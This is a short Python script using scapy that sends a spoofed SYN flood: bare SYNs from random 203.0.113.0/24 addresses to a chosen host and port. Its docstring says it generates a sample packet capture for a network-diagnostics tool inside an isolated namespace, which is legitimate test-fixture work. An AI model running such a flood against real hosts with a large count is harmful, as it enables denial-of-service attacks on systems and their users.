#!/usr/bin/python3
"""Spoofed SYN flood for the tcpdiag sample capture syn-flood.pcap.

Runs in record.sh's client namespace and sends COUNT bare SYNs to HOST:PORT
through the router, each from a random address of 203.0.113.0/24 (never
.0, .1 — the router's own address — or .255) and a random source port.
The server's real TCP stack answers them; nobody ever completes a
handshake. Random but repeatable: the same seed gives the same addresses,
ports and ISNs on every run.

Needs Debian's /usr/bin/python3 with scapy (apt-get install python3-scapy)
and root (raw socket).

  synflood.py HOST PORT [--count 60] [--interval 0.01] [--seed 3]
"""
import argparse
import random

from scapy.all import IP, TCP, conf, send

p = argparse.ArgumentParser()
p.add_argument("host")
p.add_argument("port", type=int)
p.add_argument("--count", type=int, default=60)
p.add_argument("--interval", type=float, default=0.01, help="seconds between SYNs")
p.add_argument("--seed", type=int, default=3)
a = p.parse_args()

conf.verb = 0
rnd = random.Random(a.seed)
syns = [IP(src="203.0.113.%d" % rnd.randint(2, 254), dst=a.host, ttl=64) /
        TCP(sport=rnd.randint(1024, 65535), dport=a.port, flags="S",
            seq=rnd.getrandbits(32), window=64240, options=[("MSS", 1460)])
        for _ in range(a.count)]
send(syns, inter=a.interval)
print("synflood: %d SYNs to %s:%d from %d addresses" %
      (a.count, a.host, a.port, len({s[IP].src for s in syns})), flush=True)
